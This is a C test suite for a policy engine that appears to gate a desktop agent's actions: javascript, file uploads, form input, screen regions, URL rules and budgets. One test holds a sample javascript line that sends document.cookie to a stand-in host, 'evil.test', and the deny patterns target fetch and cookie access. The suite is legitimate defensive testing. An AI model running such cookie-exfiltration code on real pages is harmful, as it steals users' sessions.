	expect(FORM("1234567890123456"), ALLOW, "actions.allow[0]");
	expect(FORM("1234567.5"), ALLOW, "actions.allow[0]");
	expect(FORM("true"), ALLOW, "actions.allow[0]");
	/* The same rules as for typed text. */
	expect("{\"type\":\"type\",\"text\":\"abcdefg\"}", DENY, "text.max_length");
	cr_assert_str_eq(dec.reason, "the text has 7 characters; the limit is 6");
	cr_assert_eq(parsef("\"actions\": {\"allow\": [\"form_input\"]}, \"text\": {\"deny\": "
			    "[\"^[0-9]{16}$\"]}"), 0, "%s", err.msg);
	expect(FORM("\"1234567890123456\""), DENY, "text.deny[0]");
	expect(FORM("1234567890123456"), ALLOW, "actions.allow[0]");
}

/* text.deny holds at most DG_RULES_REGEX_MAX patterns of at most
 * DG_RULES_REGEX_LEN_MAX bytes. */
Test(rules, text_regex_bounds)
{
	char list[2048] = "", text[2300];
	for (int i = 0; i < 32; i++)
		strcat(list, i ? ", \"a\"" : "\"a\"");
	snprintf(text, sizeof(text), "\"text\": {\"deny\": [%s]}", list);
	cr_assert_eq(parsef("%s", text), 0, "%s", err.msg);
	strcat(list, ", \"a\"");
	snprintf(text, sizeof(text), "\"text\": {\"deny\": [%s]}", list);
	refused_with(text, "text.deny: 33 patterns is more than the limit of 32");
	char pat[300];
	memset(pat, 'a', 256);
	pat[256] = '\0';
	snprintf(text, sizeof(text), "\"text\": {\"deny\": [\"%s\"]}", pat);
	cr_assert_eq(parsef("%s", text), 0, "%s", err.msg);
	strcat(pat, "a");
	snprintf(text, sizeof(text), "\"text\": {\"deny\": [\"%s\"]}", pat);
	refused_with(text, "text.deny[0]: a string of 1 to 256 bytes");
}

/* ---- javascript and file_upload --------------------------------------------- */

#define JS(code) "{\"type\":\"javascript\",\"code\":\"" code "\"}"
#define UPLOAD "{\"type\":\"file_upload\",\"ref\":\"ref_9\",\"x\":600,\"y\":600,\"paths\":[\"/tmp/a.txt\"]}"

/* No default allows them: not the built-in policy, not "default":
 * "allow"; only actions.allow or actions.ask naming them. */
Test(rules, javascript_and_file_upload_need_naming)
{
	dg_policy_free(&pol);
	dg_policy_default(&pol);
	expect(JS("document.title"), DENY, "builtin.javascript");
	cr_assert(strstr(dec.reason, "actions.allow or actions.ask"), "%s", dec.reason);
	expect(UPLOAD, DENY, "builtin.file_upload");
	cr_assert(strstr(dec.reason, "actions.allow or actions.ask"), "%s", dec.reason);
	/* The other new types are allowed as every other type. */
	expect(FORM("\"x\""), ALLOW, "default");
	expect("{\"type\":\"scroll_to\",\"ref\":\"ref_1\",\"x\":1,\"y\":1}", ALLOW, "default");
	expect("{\"type\":\"switch_tab\",\"tab\":\"A1\"}", ALLOW, "default");
	/* A file of only limits has no rules either. */
	cr_assert_eq(parse("{\"version\": 1, \"limits\": {\"pids\": 64}}"), 0, "%s", err.msg);
	expect(JS("1"), DENY, "builtin.javascript");
	expect(UPLOAD, DENY, "builtin.file_upload");

	/* "default": "allow" does not allow them. */
	cr_assert_eq(parse("{\"version\": 1, \"default\": \"allow\"}"), 0, "%s", err.msg);
	expect(JS("1"), DENY, "builtin.javascript");
	expect(UPLOAD, DENY, "builtin.file_upload");
	expect("{\"type\":\"exec\",\"argv\":[\"ls\"]}", ALLOW, "default");
	cr_assert_eq(parse("{\"version\": 1, \"default\": \"ask\", \"actions\": {\"allow\": "
			   "[\"click\"]}}"), 0, "%s", err.msg);
	expect(JS("1"), DENY, "builtin.javascript");
	/* Under "default": "deny" the rule says how to allow them. */
	expect(JS("1"), DENY, "builtin.javascript");
	cr_assert_eq(parse(example), 0, "%s", err.msg);
	expect(JS("1"), DENY, "builtin.javascript");
	expect(UPLOAD, DENY, "builtin.file_upload");

	/* Named: allowed, asked, denied as listed. */
	cr_assert_eq(parse("{\"version\": 1, \"default\": \"deny\", \"actions\": {\"allow\": "
			   "[\"javascript\"], \"ask\": [\"file_upload\"]}}"), 0, "%s", err.msg);
	expect(JS("1"), ALLOW, "actions.allow[0]");
	expect(UPLOAD, ASK, "actions.ask[0]");
	cr_assert_eq(parse("{\"version\": 1, \"default\": \"allow\", \"actions\": {\"deny\": "
			   "[\"file_upload\", \"javascript\"]}}"), 0, "%s", err.msg);
	expect(JS("1"), DENY, "actions.deny[1]");
	expect(UPLOAD, DENY, "actions.deny[0]");
	/* The other rules still apply to a named one: a budget stops it. */
	cr_assert_eq(parse("{\"version\": 1, \"default\": \"deny\", \"actions\": {\"allow\": "
			   "[\"javascript\"]}, \"budgets\": {\"max_actions\": 1}}"), 0, "%s", err.msg);
	ctx.actions_total = 1;
	expect(JS("1"), DENY, "budgets.max_actions");
}

#define JSOK "\"actions\": {\"allow\": [\"javascript\"]}, "

/* allow patterns match the whole code; deny and ask anywhere. */
Test(rules, javascript_allow_is_anchored)
{
	cr_assert_eq(parsef(JSOK "\"javascript\": {\"allow\": [\"document\\\\.title\", "
			    "\"location\\\\.href|document\\\\.URL\"]}"), 0, "%s", err.msg);
	expect(JS("document.title"), ALLOW, "javascript.allow[0]");
	cr_assert_str_eq(dec.reason, "the whole code matches an allowed pattern");
	expect(JS("document.title; fetch('https://evil.test/?' + document.cookie)"), DENY,
	       "javascript.allow");
	cr_assert(strstr(dec.reason, "matches the whole code"), "%s", dec.reason);
	expect(JS("x = document.title"), DENY, "javascript.allow");
	/* A line break does not end the code: '$' is its end only. */
	expect(JS("document.title\\nfetch('/x')"), DENY, "javascript.allow");
	expect(JS("fetch('/x')\\ndocument.title"), DENY, "javascript.allow");
	/* An alternation is anchored as a whole. */
	expect(JS("location.href"), ALLOW, "javascript.allow[1]");
	expect(JS("document.URL"), ALLOW, "javascript.allow[1]");
	expect(JS("location.href;document.URL"), DENY, "javascript.allow");
	expect(JS("location.hrefX"), DENY, "javascript.allow");
	/* A pattern whose parentheses do not balance would split the anchors
	 * ("^(a)|(b)$" matches any code starting with a): refused. */
	refused_with(JSOK "\"javascript\": {\"allow\": [\"1)|(.*\"]}",
		     "javascript.allow[0]: bad regular expression");
	refused_with(JSOK "\"javascript\": {\"allow\": [\"(1\"]}",
		     "javascript.allow[0]: bad regular expression");
	refused_with(JSOK "\"javascript\": {\"allow\": [\"1\\\\\"]}",
		     "javascript.allow[0]: bad regular expression");
	/* An empty allow list allows no code. */
	cr_assert_eq(parsef(JSOK "\"javascript\": {\"allow\": []}"), 0, "%s", err.msg);
	expect(JS("1"), DENY, "javascript.allow");
}

Test(rules, javascript_deny_ask_allow)
{
	cr_assert_eq(parsef(JSOK "\"javascript\": {\"deny\": [\"fetch|XMLHttpRequest\", "
			    "\"cookie\"], \"ask\": [\"\\\\.click\\\\(\\\\)\"]}"),
		     0, "%s", err.msg);
	/* Unanchored: anywhere in the code. */
	expect(JS("window.fetch('/x')"), DENY, "javascript.deny[0]");
	cr_assert_str_eq(dec.reason, "the code matches a denied pattern");
	expect(JS("document.cookie"), DENY, "javascript.deny[1]");
	expect(JS("document.querySelector('#go').click()"), ASK, "javascript.ask[0]");
	/* deny beats ask. */
	expect(JS("document.cookie; b.click()"), DENY, "javascript.deny[1]");
	/* Without "allow", code no pattern matches is left to "actions". */
	expect(JS("document.title"), ALLOW, "actions.allow[0]");

	cr_assert_eq(parsef(JSOK "\"javascript\": {\"allow\": [\".*\"], \"deny\": [\"fetch\"], "
			    "\"ask\": [\"click\"]}"), 0, "%s", err.msg);
	expect(JS("document.title"), ALLOW, "javascript.allow[0]");
	expect(JS("fetch('/')"), DENY, "javascript.deny[0]");
	expect(JS("b.click()"), ASK, "javascript.ask[0]");
	/* The allowlist denies what it does not match, before any ask. */
	cr_assert_eq(parsef(JSOK "\"javascript\": {\"allow\": [\"b\\\\.click\\\\(\\\\)\"], "
			    "\"ask\": [\"click\"]}"), 0, "%s", err.msg);
	expect(JS("b.click()"), ASK, "javascript.ask[0]");
	expect(JS("c.click()"), DENY, "javascript.allow");

	/* The section narrows; "actions" must still allow the type. */
	cr_assert_eq(parse("{\"version\": 1, \"default\": \"allow\", \"javascript\": {\"allow\": "
			   "[\"document\\\\.title\"]}}"), 0, "%s", err.msg);
	expect(JS("document.title"), DENY, "builtin.javascript");
	cr_assert_eq(parsef("\"actions\": {\"ask\": [\"javascript\"]}, \"javascript\": {\"allow\": "
			    "[\"document\\\\.title\"]}"), 0, "%s", err.msg);
	expect(JS("document.title"), ASK, "actions.ask[0]");
	expect(JS("document.body"), DENY, "javascript.allow");
	/* javascript patterns see javascript only. */
	cr_assert_eq(parsef("\"actions\": {\"allow\": [\"type\"]}, \"javascript\": {\"deny\": "
			    "[\"a\"], \"allow\": []}"), 0, "%s", err.msg);
	expect("{\"type\":\"type\",\"text\":\"a\"}", ALLOW, "actions.allow[0]");
}

/* Each list: at most DG_RULES_REGEX_MAX patterns of at most
 * DG_RULES_REGEX_LEN_MAX bytes, tamed as text.deny's. */
Test(rules, javascript_bounds)
{
	const char *lists[] = { "allow", "ask", "deny" };
	for (int l = 0; l < 3; l++) {
		char list[2048] = "", text[2300];
		for (int i = 0; i < 32; i++)
			strcat(list, i ? ", \"a\"" : "\"a\"");
		snprintf(text, sizeof(text), JSOK "\"javascript\": {\"%s\": [%s]}", lists[l], list);
		cr_assert_eq(parsef("%s", text), 0, "%s: %s", lists[l], err.msg);
		strcat(list, ", \"a\"");
		snprintf(text, sizeof(text), JSOK "\"javascript\": {\"%s\": [%s]}", lists[l], list);
		char want[80];
		snprintf(want, sizeof(want), "javascript.%s: 33 patterns is more than the limit of 32",
			 lists[l]);
		refused_with(text, want);

		/* 256 bytes load, also anchored (the wrapping is not counted). */
		char pat[300];
		memset(pat, 'a', 256);
		pat[256] = '\0';
		snprintf(text, sizeof(text), JSOK "\"javascript\": {\"%s\": [\"%s\"]}", lists[l], pat);
		cr_assert_eq(parsef("%s", text), 0, "%s: %s", lists[l], err.msg);
		if (l == 0) {
			char code[400];
			snprintf(code, sizeof(code), JS("%s"), pat);
			expect(code, ALLOW, "javascript.allow[0]");
		}
		strcat(pat, "a");
		snprintf(text, sizeof(text), JSOK "\"javascript\": {\"%s\": [\"%s\"]}", lists[l], pat);
		snprintf(want, sizeof(want), "javascript.%s[0]: a string of 1 to 256 bytes", lists[l]);
		refused_with(text, want);

		/* The repeat bound and the other explosions. */
		snprintf(text, sizeof(text), JSOK "\"javascript\": {\"%s\": [\"a{16}\", \"a{1,16}\"]}",
			 lists[l]);
		cr_assert_eq(parsef("%s", text), 0, "%s: %s", lists[l], err.msg);
		const char *bad[][2] = { { "a{17}", "above {16}" }, { "a{1,17}", "above {16}" },
					 { "(a+)*", "quantified group" }, { "a++", "after another" },
					 { "(a)\\\\1", "back-references" } };
		for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
			snprintf(text, sizeof(text), JSOK "\"javascript\": {\"%s\": [\"x\", \"%s\"]}",
				 lists[l], bad[i][0]);
			snprintf(want, sizeof(want), "javascript.%s[1]: ", lists[l]);
			refused_with(text, want);
			refused_with(text, bad[i][1]);
		}
	}
	refused_with("\"javascript\": {\"alow\": []}", "unknown key \"javascript.alow\"");
	refused_with("\"javascript\": [\"a\"]", "javascript: ");
	refused_with("\"javascript\": {\"deny\": \"fetch\"}", "javascript.deny: ");
	refused_with("\"javascript\": {\"deny\": [\"a(\"]}", "javascript.deny[0]: bad regular expression");
	/* Nothing of a refused policy stays (and LeakSanitizer sees no leak). */
	cr_assert_null(pol.rules);
}

/* ---- element actions -------------------------------------------------------- */

/* The element actions are located at their x, y (resolved from the
 * element by the caller). */
Test(rules, regions_cover_element_actions)
{
	cr_assert_eq(parsef("\"actions\": {\"allow\": [\"click\", \"move\", \"form_input\", "
			    "\"scroll_to\", \"file_upload\"]}, \"regions\": [{\"name\": \"pay\", "
			    "\"rect\": [100, 200, 10, 20], \"verdict\": \"deny\"}, {\"name\": \"form\", "
			    "\"rect\": [0, 0, 50, 50], \"actions\": [\"form_input\"], \"verdict\": "
			    "\"ask\"}]"), 0, "%s", err.msg);
	/* A region without "actions" covers every located type, the new ones
	 * included; inside at x, outside at x + w. */
	expect("{\"type\":\"form_input\",\"ref\":\"ref_1\",\"x\":100,\"y\":200,\"value\":\"a\"}", DENY,
	       "regions[pay]");
	expect("{\"type\":\"form_input\",\"ref\":\"ref_1\",\"x\":110,\"y\":200,\"value\":\"a\"}", ALLOW,
	       "actions.allow[2]");
	expect("{\"type\":\"scroll_to\",\"ref\":\"ref_1\",\"x\":109,\"y\":219}", DENY, "regions[pay]");
	expect("{\"type\":\"scroll_to\",\"ref\":\"ref_1\",\"x\":109,\"y\":220}", ALLOW,
	       "actions.allow[3]");
	expect("{\"type\":\"file_upload\",\"ref\":\"ref_1\",\"x\":105,\"y\":205,\"paths\":[\"/tmp/a\"]}",
	       DENY, "regions[pay]");
	expect("{\"type\":\"click\",\"ref\":\"ref_1\",\"x\":105,\"y\":205}", DENY, "regions[pay]");
	expect("{\"type\":\"move\",\"ref\":\"ref_1\",\"x\":99,\"y\":205}", ALLOW, "actions.allow[1]");
	/* "actions": ["form_input"] is accepted and covers form_input only. */
	expect("{\"type\":\"form_input\",\"ref\":\"ref_1\",\"x\":10,\"y\":49,\"value\":true}", ASK,
	       "regions[form]");
	expect("{\"type\":\"form_input\",\"ref\":\"ref_1\",\"x\":10,\"y\":50,\"value\":true}", ALLOW,
	       "actions.allow[2]");
	expect("{\"type\":\"click\",\"ref\":\"ref_1\",\"x\":10,\"y\":10}", ALLOW, "actions.allow[0]");
	expect("{\"type\":\"scroll_to\",\"ref\":\"ref_1\",\"x\":10,\"y\":10}", ALLOW,
	       "actions.allow[3]");
	/* A type without a position has no place in a region. */
	refused_with("\"regions\": [{\"name\": \"r\", \"rect\": [0, 0, 5, 5], \"verdict\": \"deny\", "
		     "\"actions\": [\"javascript\"]}]", "regions[0].actions[0]: \"javascript\" has no position");
	refused_with("\"regions\": [{\"name\": \"r\", \"rect\": [0, 0, 5, 5], \"verdict\": \"deny\", "
		     "\"actions\": [\"switch_tab\"]}]", "regions[0].actions[0]: \"switch_tab\" has no position");
	cr_assert_eq(parsef("\"regions\": [{\"name\": \"r\", \"rect\": [0, 0, 5, 5], \"verdict\": "
			    "\"deny\", \"actions\": [\"scroll_to\", \"file_upload\"]}]"), 0, "%s", err.msg);
}

/* An element action whose point is not known yet is never decided: the
 * caller resolves it first; deciding it anyway fails closed. */
Test(rules, unresolved_actions_are_denied)
{
	const char *unresolved[] = {
		"{\"type\":\"click\",\"ref\":\"ref_1\"}",
		"{\"type\":\"move\",\"ref\":\"ref_1\"}",
		"{\"type\":\"scroll_to\",\"ref\":\"ref_1\"}",
		"{\"type\":\"form_input\",\"ref\":\"ref_1\",\"value\":\"a\"}",
		"{\"type\":\"file_upload\",\"ref\":\"ref_1\",\"paths\":[\"/tmp/a\"]}",
	};
	for (int pass = 0; pass < 3; pass++) {
		if (pass == 1) { /* the built-in policy, which allows the rest */
			dg_policy_free(&pol);
			dg_policy_default(&pol);
		} else if (pass == 2) {
			cr_assert_eq(parse("{\"version\": 1, \"default\": \"allow\", \"actions\": "
					   "{\"allow\": [\"file_upload\"]}}"), 0, "%s", err.msg);
		}
		for (size_t i = 0; i < sizeof(unresolved) / sizeof(unresolved[0]); i++) {
			struct dg_action a;
			struct dg_err e = { { 0 } };
			const char *j = unresolved[i];
			cr_assert_eq(dg_action_parse(j, strlen(j), 1280, 800, &a, &e), 0, "%s: %s", j,
				     e.msg);
			cr_assert(dg_action_unresolved(&a), "%s", j);
			cr_assert_eq(dg_policy_decide(&pol, &a, &ctx, &dec), -EINVAL, "%s", j);
			cr_assert_eq(dec.verdict, DENY, "%s", j);
			cr_assert_str_eq(dec.rule, "internal", "%s", j);
			cr_assert(strstr(dec.reason, "point on the screen is not known"), "%s: %s", j,
				  dec.reason);
			dg_action_free(&a);
		}
	}
	/* Resolved, the same actions are decided. */
	expect("{\"type\":\"click\",\"ref\":\"ref_1\",\"x\":1,\"y\":1}", ALLOW, "default");
	expect("{\"type\":\"file_upload\",\"ref\":\"ref_1\",\"x\":1,\"y\":1,\"paths\":[\"/tmp/a\"]}",
	       ALLOW, "actions.allow[0]");
}

/* ---- budgets ----------------------------------------------------------------- */

Test(rules, budgets_at_the_boundary)
{
	/* The counts are of actions already run in the sliding minute. */
	ctx.actions_last_minute = 299;
	expect(CLICK(5, 500), ALLOW, "actions.allow[2]");
	ctx.actions_last_minute = 300;
	expect(CLICK(5, 500), DENY, "budgets.actions_per_minute");
	/* The window slides: older actions drop out and the count falls. */
	ctx.actions_last_minute = 299;
	expect(CLICK(5, 500), ALLOW, "actions.allow[2]");
	ctx.actions_total = 9999;
	expect(CLICK(5, 500), ALLOW, "actions.allow[2]");
	ctx.actions_total = 10000;
	expect(CLICK(5, 500), DENY, "budgets.max_actions");
	ctx.actions_total = 0;
	ctx.exec_total = 99;
	expect("{\"type\":\"exec\",\"argv\":[\"ls\"]}", ASK, "actions.ask[0]");
	ctx.exec_total = 100;
	expect("{\"type\":\"exec\",\"argv\":[\"ls\"]}", DENY, "budgets.max_exec");
	expect(CLICK(5, 500), ALLOW, "actions.allow[2]");
}

/* ---- loading errors ------------------------------------------------------------ */

Test(rules, load_errors_name_the_place)
{
	refused_with("\"urls\": {\"alow\": []}", "unknown key \"urls.alow\"");
	refused_with("\"urls\": {\"allow\": [\"https://a.com/\", \"ftp://a.com/\"]}", "urls.allow[1]: ");
	refused_with("\"urls\": {\"deny\": [\"https://a.com\"]}", "urls.deny[0]: ");
	refused_with("\"urls\": {\"deny\": [\"https://a*.com/\"]}", "urls.deny[0]: ");
	refused_with("\"urls\": {\"deny\": [\"https://A.com/\"]}", "urls.deny[0]: ");
	refused_with("\"urls\": {\"deny\": [\"https://*.1.2.3.4/\"]}", "urls.deny[0]: ");
	refused_with("\"urls\": {\"deny\": [\"https://a.com:0/\"]}", "urls.deny[0]: ");
	refused_with("\"urls\": {\"deny\": [\"https://a.com/?q\"]}", "urls.deny[0]: ");
	refused_with("\"urls\": {\"deny\": [\"https://a.com/a/../b\"]}", "urls.deny[0]: ");
	refused_with("\"actions\": {\"allow\": [\"clik\"]}", "actions.allow[0]: unknown action \"clik\"");
	refused_with("\"regions\": [{\"name\": \"r\", \"rect\": [0, 0, 0, 10], \"verdict\": \"deny\"}]",
		     "regions[0].rect: ");
	refused_with("\"regions\": [{\"name\": \"r\", \"rect\": [-1, 0, 5, 10], \"verdict\": \"deny\"}]",
		     "regions[0].rect: ");
	refused_with("\"regions\": [{\"name\": \"r\", \"rect\": [0, 0, 5], \"verdict\": \"deny\"}]",
		     "regions[0].rect: ");
	refused_with("\"regions\": [{\"name\": \"r\", \"rect\": [16000, 0, 500, 10], \"verdict\": \"deny\"}]",
		     "regions[0].rect: ");
	refused_with("\"regions\": [{\"name\": \"r\", \"rect\": [0, 0, 5, 5], \"verdict\": \"allow\"}]",
		     "regions[0].verdict: ");
	refused_with("\"regions\": [{\"name\": \"r\", \"rect\": [0, 0, 5, 5], \"verdict\": \"deny\", "
		     "\"color\": 1}]", "unknown key \"regions[0].color\"");
	refused_with("\"regions\": [{\"name\": \"r\", \"rect\": [0, 0, 5, 5], \"verdict\": \"deny\"}, "
		     "{\"name\": \"r\", \"rect\": [0, 0, 5, 5], \"verdict\": \"deny\"}]",
		     "regions[1].name: ");
	refused_with("\"regions\": [{\"name\": \"r\", \"rect\": [0, 0, 5, 5], \"verdict\": \"deny\", "
		     "\"actions\": [\"navigate\"]}]", "regions[0].actions[0]: ");
	refused_with("\"keys\": {\"deny\": [\"ctrl+Retrun\"]}", "keys.deny[0]: \"ctrl+Retrun\": unknown key");
	refused_with("\"keys\": {\"ask\": [\"a\", \"*+a\"]}", "keys.ask[1]: ");
	refused_with("\"keys\": {\"ask\": [\"ctrl++\"]}", "keys.ask[0]: ");
	refused_with("\"text\": {\"deny\": [\"a(\"]}", "text.deny[0]: bad regular expression");
	refused_with("\"text\": {\"deny\": [\"(a)\\\\1\"]}", "text.deny[0]: back-references");
	refused_with("\"text\": {\"max_length\": -1}", "text.max_length: ");
	refused_with("\"text\": {\"maxlength\": 5}", "unknown key \"text.maxlength\"");
	refused_with("\"egress\": {\"allow\": [\"example.com\"]}", "egress.allow[0]: ");
	refused_with("\"egress\": {\"allow\": [\"example.com:99999\"]}", "egress.allow[0]: ");
	refused_with("\"budgets\": {\"max_actions\": 1.5}", "budgets.max_actions: ");
	refused_with("\"budgets\": {\"per_minute\": 1}", "unknown key \"budgets.per_minute\"");
	/* "default" is required once there are rules, and must be a verdict. */
	cr_assert_eq(parse("{\"version\": 1, \"actions\": {\"allow\": [\"click\"]}}"), -EINVAL);
	cr_assert(strstr(err.msg, "missing key \"default\""), "%s", err.msg);
	cr_assert_eq(parse("{\"version\": 1, \"default\": \"maybe\"}"), -EINVAL);
	cr_assert(strstr(err.msg, "default: \"maybe\""), "%s", err.msg);
	/* Nothing of a refused policy stays (and LeakSanitizer sees no leak). */
	cr_assert_null(pol.rules);
}

Test(rules, copies_share_and_free)
{
	struct dg_policy a, b;
	dg_policy_copy(&a, &pol);
	dg_policy_copy(&b, &a);
	dg_policy_free(&pol);
	cr_assert_null(pol.rules);
	ctx.url = NULL;
	struct dg_action act;
	struct dg_err e;
	cr_assert_eq(dg_action_parse(KEY("super+l"), strlen(KEY("super+l")), 1280, 800, &act, &e), 0);
	cr_assert_eq(dg_policy_decide(&a, &act, &ctx, &dec), 0);
	cr_assert_eq(dec.verdict, DENY);
	dg_policy_free(&a);
	cr_assert_eq(dg_policy_decide(&b, &act, &ctx, &dec), 0);
	cr_assert_eq(dec.verdict, DENY);
	dg_policy_free(&b);
	dg_policy_free(&b);
	dg_action_free(&act);
	cr_assert_eq(dg_policy_decide(NULL, &act, &ctx, &dec), -EINVAL);
	cr_assert_eq(dec.verdict, DENY);
}

/* ---- deskgate check -------------------------------------------------------------- */

Test(rules, check_stream)
{
	const char *in_text =
		"{\"type\":\"click\",\"x\":5,\"y\":5}\n"
		"\n"
		"{\"type\":\"clik\"}\n"
		"not json\n"
		"{\"type\":\"navigate\",\"url\":\"https://en.wikipedia.org/wiki/Special:Random\"}\n"
		"{\"type\":\"exec\",\"argv\":[\"ls\"]}\n"
		"{\"type\":\"key\",\"keys\":\"super\"}\n"
		"{\"type\":\"navigate\",\"url\":\"https://example.com/\"}\n"
		"{\"type\":\"click\",\"ref\":\"ref_12\"}\n"
		"{\"type\":\"javascript\",\"code\":\"1\"}";
	FILE *in = fmemopen((void *)in_text, strlen(in_text), "r");
	char *out_text = NULL;
	size_t out_len = 0;
	FILE *out = open_memstream(&out_text, &out_len);
	cr_assert(in && out);
	cr_assert_eq(dg_check_stream(&pol, "https://example.com/", 1280, 800, in, out), 0);
	fclose(in);
	fclose(out);
	const char *lines[] = {
		"{\"verdict\":\"deny\",\"rule\":\"regions[top-bar]\",\"reason\":\"window controls are off limits\"}",
		"{\"error\":",
		"{\"error\":",
		"{\"verdict\":\"deny\",\"rule\":\"urls.deny[0] https://*.wikipedia.org/wiki/Special:*\",",
		"{\"verdict\":\"ask\",\"rule\":\"actions.ask[0]\",",
		"{\"verdict\":\"deny\",\"rule\":\"keys.deny[1] super+*\",",
		"{\"verdict\":\"allow\",\"rule\":\"urls.allow[0] https://example.com/**\",",
		"{\"error\":\"action: ref_12 has no x, y: an element's point on the screen is found "
		"on a live desktop only; give its x, y to decide it here\"}",
		"{\"verdict\":\"deny\",\"rule\":\"builtin.javascript\",",
	};
	char *save = NULL, *line = strtok_r(out_text, "\n", &save);
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		cr_assert_not_null(line, "line %zu missing", i);
		cr_assert(strncmp(line, lines[i], strlen(lines[i])) == 0, "line %zu: %s", i, line);
		line = strtok_r(NULL, "\n", &save);
	}
	cr_assert_null(line, "extra line: %s", line);
	free(out_text);
}
